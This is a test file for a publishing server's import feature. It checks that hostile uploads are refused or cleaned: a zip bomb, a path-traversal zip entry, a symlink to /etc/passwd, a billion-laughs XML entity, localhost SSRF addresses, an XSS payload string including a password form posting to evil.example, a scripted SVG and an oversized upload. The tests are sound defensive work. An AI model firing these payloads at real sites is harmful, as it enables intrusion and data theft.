import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { ProgressAnswer } from '../../src/editor/moving-in-view.ts';
import { startServer, type Running } from '../../src/server/main.ts';
import { makeOldSite } from '../browser/old-site.ts';
import { signInAsCoach } from '../coach-session.ts';
import { publishProject, type PublishedProject } from '../publish-project.ts';
import { makeZip } from '../unit/import/sources/make-zip.ts';

// Whoever has the coach's export in hand, or her session for a moment, sends the worst there is: over HTTP, to a whole server.

let folder: string;
let project: PublishedProject;
let site: Running;
let cookie: string;
const data = () => path.join(folder, 'data');

beforeAll(async () => {
  folder = fs.mkdtempSync(path.join(os.tmpdir(), 'import-attacks-'));
  project = await publishProject(folder);
  site = await startServer({ ...project.environment, RATE_LIMITS: 'off' });
  cookie = await signInAsCoach({ url: site.url, dataFolder: data() });
}, 180_000);
afterAll(async () => {
  await site.stop();
  fs.rmSync(folder, { recursive: true });
});

const headers = () => ({ cookie, 'sec-fetch-site': 'same-origin' });
const get = async (address: string) => (await fetch(site.url + address, { headers: headers() })).text();
const post = (body: FormData | URLSearchParams) =>
  fetch(`${site.url}/write/import/`, { method: 'POST', redirect: 'manual', headers: headers(), body });
const act = (name: string) => post(new URLSearchParams({ act: name }));

function toForm(files: Record<string, string | Buffer>, address = ''): FormData {
  const form = new FormData();
  for (const [name, content] of Object.entries(files))
    form.append('files', new File([new Uint8Array(Buffer.from(content))], name));
  form.append('address', address);
  return form;
}

/** Where the coach is led once it runs no more. */
async function untilEnded(): Promise<string> {
  for (;;) {
    const answer = JSON.parse(await get('/write/import/progress/')) as ProgressAnswer;
    if ('next' in answer) return answer.next;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

const plainWords = (html: string) =>
  html
    .replace(/<style[^]*?<\/style>|<script[^]*?<\/script>/g, ' ')
    .replace(/<[^>]+>/g, ' ')
    .replace(/\s+/g, ' ');

/** What she reads after she has sent it. */
async function send(form: FormData): Promise<string> {
  const answer = await post(form);
  expect(answer.status).toBe(303);
  await untilEnded();
  return plainWords(await get('/write/import/'));
}

const NEST = 5000;
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha">${'bcdefghij'
  .split('')
  .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'.charAt(index)};`.repeat(10)}">`)
  .join('')}]>`;

it.each<[string, Record<string, string | Buffer>, string]>([
  [
    'a zip that would fill the disk',
    { 'a.zip': makeZip([{ name: 'a.xml', content: Buffer.alloc(50 * 1024 * 1024) }]) },
    'The zip would unpack to far more than any site holds.',
  ],
  [
    'a zip with a name that leads out',
    { 'a.zip': makeZip([{ name: '../../../../evil.md', content: '# Evil' }]) },
    'The zip is not whole.',
  ],
  [
    'a zip with a link to a secret',
    { 'a.zip': makeZip([{ name: 'evil.md', content: '/etc/passwd', mode: 0o120777 }]) },
    'The zip holds links to other places.',
  ],
  [
    'a zip that was torn off',
    { 'a.zip': makeZip([{ name: 'a.md', content: '# A' }]).subarray(0, 60) },
    'The zip is not whole.',
  ],
  [
    'elements in each other without an end',
    { 'a.xml': `<rss><channel>${'<a>'.repeat(NEST)}${'</a>'.repeat(NEST)}</channel></rss>` },
    'No platform writes such a file.',
  ],
  [
    'a file that is no export',
    { 'a.pdf': '%PDF-1.7 nothing' },
    'None of it is an export that is known here.',
  ],
])('says in a sentence what is wrong with %s', async (_, files, words) => {
  const shown = await send(toForm(files));
  expect(shown).toContain('The import came to no end.');
  expect(shown).toContain(words);
  expect(shown).not.toContain(data());
  await act('anew');
  expect(await get('/write/import/')).toContain('id="send-site"');
});

it('asks no network of the server’s own for a feed', async () => {
  const asked: string[] = [];
  const inside = net.createServer((socket) => {
    asked.push('asked');
    socket.destroy();
  });
  await new Promise<void>((resolve) => inside.listen(0, '127.0.0.1', resolve));
  const { port } = inside.address() as net.AddressInfo;
  for (const host of ['127.0.0.1', 'localhost', '[::ffff:127.0.0.1]', '2130706433', '0x7f.1']) {
    const shown = await send(toForm({}, `http://${host}:${port}/feed`));
    expect(shown).toContain('The feed could not be fetched.');
    await act('anew');
  }
  inside.close();
  expect(asked).toEqual([]);
});

it('opens no entity that a file declares', async () => {
  const laughs = makeOldSite(2011).replace('<?xml version="1.0" encoding="UTF-8"?>', LAUGHS);
  const shown = await send(toForm({ 'a.xml': laughs.replace('When to speak', 'When &j; to speak') }));
  expect(shown).toContain('3 texts would come.');
  await act('anew');
});

const EVIL = `<p onclick="alert(1)">Words before. <a href="javascript:alert(2)">A link</a> <a href="data:text/html,<script>alert(3)</script>">Another</a></p><script>alert(4)</script><img src="x.png" onerror="alert(5)"/><svg onload="alert(6)"><script>alert(7)</script></svg><iframe srcdoc="<script>alert(8)</script>"></iframe><object data="javascript:alert(9)"></object><style>body{display:none}</style><form action="https://evil.example"><input name="password"/></form><math><mtext><table><mglyph><style><img src=x onerror=alert(10)></style></mglyph></table></mtext></math><img src="https://old.example/wp-content/uploads/2019/04/evil.svg" alt="A drawing"/><p>{process.exit(1)} <b>Words after.</b></p>`;

/** What readers of the old site left there with their comments. */
const TELLING = /203\.0\.113\.77|(?:ann|bo)@old/;

it('brings no script, no foreign address of a reader, and nothing of a drawing that acts', async () => {
  const evil = makeOldSite(2012)
    .replace('<p>Here was a picture once.</p>', EVIL)
    .replaceAll(
      '<wp:comment_date_gmt>',
      '<wp:comment_author_IP>203.0.113.77</wp:comment_author_IP><wp:comment_author_url>javascript:alert(11)</wp:comment_author_url><wp:comment_date_gmt>',
    )
    .replace('This helped me at breakfast.', 'This helped me. <img src=x onerror=alert(12)>');
  const drawing =
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(13)"><script>alert(14)</script><foreignObject><iframe src="javascript:alert(15)"/></foreignObject><circle r="4"/></svg>';
  const uploads = makeZip([{ name: 'uploads/2019/04/evil.svg', content: drawing }]);
  await send(toForm({ 'old.xml': evil, 'uploads.zip': uploads }));
  await act('start');
  const report = await untilEnded();
  expect(report).toMatch(/^\/write\/import\/\d{4}-/);

  const files = project.inBare('ls-tree', '-r', '--name-only', 'main', 'content/').trim().split('\n');
  const drawn = files.filter((file) => file.endsWith('.svg'));
  for (const file of drawn)
    expect(project.inBare('show', `main:${file}`)).not.toMatch(/script|onload|foreignObject/i);
  const text = project.inBare('show', 'main:content/posts/gone/index.mdx');
  expect(text).toMatch(/Words before\.[^]*Words after\./);
  expect(text).not.toMatch(/<script|javascript:|srcdoc|onclick|onerror|onload|<form|<style|data:text/i);
  const shown = await get('/drafts/gone/');
  expect(shown).toMatch(/Words before\.[^]*process\.exit\(1\)[^]*Words after\./);
  expect(shown).not.toMatch(/alert\((?!1[12]\))|javascript:|srcdoc|evil\.example/i);
  expect(await get(report)).not.toMatch(/<img src=x|<script>alert/);

  // What was sent is gone, and nobody's email or network address is anywhere.
  const kept = fs
    .readdirSync(data(), { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && !/site\.git|node_modules/.test(entry.parentPath))
    .map((entry) => path.join(entry.parentPath, entry.name));
  expect(kept.length).toBeGreaterThan(5);
  expect(fs.existsSync(path.join(data(), 'import/files'))).toBe(false);
  const telling = kept.filter((file) => TELLING.test(fs.readFileSync(file, 'latin1')));
  expect(telling).toEqual([]);
  expect(project.inBare('log', '--all', '--patch', '--', 'content/')).not.toMatch(TELLING);
}, 240_000);

it('says at once that more than 1 GB is too much, while it still comes', async () => {
  const { hostname, port } = new URL(site.url);
  const socket = net.connect(Number(port), hostname);
  const head = [
    'POST /write/import/ HTTP/1.1',
    `host: ${hostname}:${port}`,
    `cookie: ${cookie}`,
    'sec-fetch-site: same-origin',
    'content-type: multipart/form-data; boundary=b',
    'content-length: 2000000000',
  ];
  socket.write(`${head.join('\r\n')}\r\n\r\n--b\r\n`);
  socket.on('error', () => undefined);
  let said = '';
  const isSaid = new Promise<void>((resolve) => {
    socket.on('data', (bytes) => {
      said += String(bytes);
      if (said.includes('</html>')) resolve();
    });
    socket.on('close', () => {
      resolve();
    });
  });
  const chunk = Buffer.alloc(64 * 1024, 'x');
  while (!said && !socket.destroyed) {
    socket.write(chunk);
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
  await isSaid;
  socket.destroy();
  expect(said).toMatch(/^HTTP\/1\.1 413 /);
  expect(said.toLowerCase()).toContain('connection: close');
  expect(said).toContain('That is more than 1 GB.');
});

it('says of a file in which nothing is that it is empty', async () => {
  const answer = await post(toForm({ 'a.xml': '' }));
  expect(answer.status).toBe(422);
  expect(await answer.text()).toContain('There is nothing in what was chosen.');
});
